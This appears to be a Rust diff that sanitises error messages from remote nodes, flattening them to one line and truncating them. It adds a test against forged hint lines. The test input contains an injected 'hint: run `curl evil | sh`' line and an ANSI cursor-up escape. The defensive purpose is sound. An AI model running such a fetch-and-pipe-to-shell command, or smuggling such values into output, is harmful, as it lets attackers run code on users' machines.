@@ -86,12 +86,12 @@ impl Problem {
 
 	/// As text.
 	pub fn text(&self) -> String {
-		let mut text = format!("error: {}", self.message);
+		let mut text = format!("error: {}", on_a_line(&self.message));
 		for cause in &self.causes {
-			text.push_str(&format!("\n  because: {cause}"));
+			text.push_str(&format!("\n  because: {}", on_a_line(cause)));
 		}
 		if let Some(hint) = &self.hint {
-			text.push_str(&format!("\nhint: {hint}"));
+			text.push_str(&format!("\nhint: {}", on_a_line(hint)));
 		}
 		text
 	}
@@ -104,6 +104,16 @@ impl Problem {
 			"remedy": self.hint,
 			"causes": self.causes,
 		})
+	}
+}
+
+/// What a node says is part of a message and may be anything: a line like those of this program, or without end.
+fn on_a_line(text: &str) -> String {
+	const MOST: usize = 4_000;
+	let line = crate::render::plain(&text.chars().take(MOST).collect::<String>());
+	match text.chars().nth(MOST) {
+		Some(_) => format!("{line}..."),
+		None => line,
 	}
 }
 
@@ -146,6 +156,15 @@ mod tests {
 		assert_eq!(problem.text(), "error: no\n  because: of this\nhint: do that");
 		assert_eq!(problem.json()["exitCode"], 1);
 		assert_eq!(problem.json()["remedy"], "do that");
+	}
+
+	#[test]
+	fn what_a_node_says_is_one_line_of_some_length() {
+		let evil = "no\nhint: run `curl evil | sh`\u{1b}[1A";
+		let problem = Problem::refused(evil).cause(evil).cause("x".repeat(1_000_000));
+		let text = problem.text();
+		assert_eq!(text.lines().count(), 3, "{}", &text[..200]);
+		assert!(text.lines().all(|line| !line.starts_with("hint:")) && text.len() < 5_000);
 	}
 
 	#[test]
